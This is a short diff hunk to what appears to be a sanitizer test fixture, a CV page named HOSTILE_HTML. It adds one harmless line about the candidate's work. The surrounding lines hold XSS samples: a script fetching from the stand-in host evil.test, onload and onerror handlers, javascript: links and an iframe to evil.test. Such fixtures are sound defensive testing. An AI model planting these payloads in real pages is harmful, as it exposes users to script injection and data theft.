@@ -128,6 +128,7 @@ HOSTILE_HTML = """<html><head><title>CV</title><script>fetch('http://evil.test/?
 </head><body onload="steal()">
 <h1 onclick="alert('h1')">Asha Verma</h1>
 <p onmouseover="alert(2)">Data Engineer. Python, SQL, Airflow and Spark on AWS.</p>
+<p>Works for one mid-sized retailer in Pune, in the same small team as before; happy to own a piece of work.</p>
 <a href="javascript:alert(3)">portfolio</a> <img src=x onerror="alert(4)">
 <iframe src="http://evil.test/frame">frame text</iframe><noscript>enable js</noscript>
 <svg><script>alert(5)</script></svg><template><p>hidden template</p></template>
